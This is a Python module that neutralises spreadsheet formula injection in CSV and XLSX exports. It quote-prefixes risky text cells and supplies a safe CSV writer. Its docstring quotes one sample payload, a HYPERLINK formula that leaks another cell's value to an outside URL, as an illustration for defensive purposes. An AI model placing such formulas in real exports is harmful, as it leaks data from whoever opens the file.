"""Cells that a spreadsheet opens as data, never as a formula ("CSV injection").

Excel, LibreOffice and Google Sheets run a cell as a formula when its text starts with
``=``, ``+``, ``-`` or ``@`` (a leading tab or carriage return can hide such a start);
a reader's free text or a case code such as ``=HYPERLINK("http://...?leak="&A2,"x")``
would then run when a statistician opens an export (OWASP, "CSV Injection"). The rule,
in this one place, for every CSV, XLSX and iMRMC file that ``stats`` and the platform
write:

* only text is ever changed: ints, floats (also NaN and infinities) and None are
  written as they are, so numbers stay numbers;
* text that is a plain decimal number (``-1.5``, ``+3``, ``2e-5``) is a number to a
  spreadsheet, not a formula, and stays as it is;
* other text that starts with one of :data:`FORMULA_STARTS` :func:`runs_as_formula`.

In CSV (and iMRMC) such text gets a leading single quote, OWASP's advice
(:func:`spreadsheet_safe`). Text that already starts with a quote gets one more, so that
the change can be undone exactly: :func:`spreadsheet_text` drops one leading quote, and
that gives back the text that was written (the reproducibility bundle's reader uses it).
In XLSX the text stays exact in a text cell carrying Excel's quote-prefix style
(ECMA-376 Part 1, 18.8.45 ``xf@quotePrefix``: the cell was typed with a leading quote),
see ``stats.io_excel.write_xlsx``; no data cell is ever a formula.
"""

import csv
import io
import re
from collections.abc import Callable, Iterable
from typing import Any, Protocol

#: The first characters that make a spreadsheet read a text cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: The prefix that makes a spreadsheet keep the text as text.
QUOTE = "'"

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet would read this text as a formula (module docstring)."""
    return text.startswith(FORMULA_STARTS) and _PLAIN_NUMBER.fullmatch(text) is None


def spreadsheet_safe(value: Any) -> Any:
    """``value`` for a CSV cell: text that would run as a formula, or that starts with a
    quote, gets a leading quote; anything else (numbers included) is returned unchanged."""
    if isinstance(value, str) and (value.startswith(QUOTE) or runs_as_formula(value)):
        return QUOTE + value
    return value


def spreadsheet_text(cell: str) -> str:
    """The text that :func:`spreadsheet_safe` turned into ``cell`` (drops one leading quote)."""
    return cell[len(QUOTE) :] if cell.startswith(QUOTE) else cell


class Writable(Protocol):
    """A file opened for text, or anything else with ``write(str)`` (an HTTP response)."""

    def write(self, text: str, /) -> Any: ...


class SafeCsvWriter:
    """A CSV writer whose every cell goes through :func:`spreadsheet_safe`.

    ``cell`` turns the safe value into the field (e.g. ``stats.study_record.format_cell``);
    it runs after the check, so a number written as text (``-1.5``, ``-Inf``) is never
    quoted. Unlike :func:`csv.writer` with a ``\\n`` line end, a field that holds a carriage
    return is enclosed in double quotes too (the writer quotes only the characters of its
    line end, and a reader takes a bare CR for one), so such text reads back whole.
    """

    def __init__(
        self, handle: Writable, *, lineterminator: str = "\r\n", cell: Callable[[Any], Any] | None = None
    ) -> None:
        self._handle, self._end, self._cell = handle, lineterminator, cell or (lambda value: value)
        self._line = io.StringIO()
        self._writer = csv.writer(self._line, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._line.seek(0)
        self._line.truncate()
        self._writer.writerow([self._cell(spreadsheet_safe(value)) for value in row])
        self._handle.write(self._line.getvalue().removesuffix("\r\n") + self._end)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
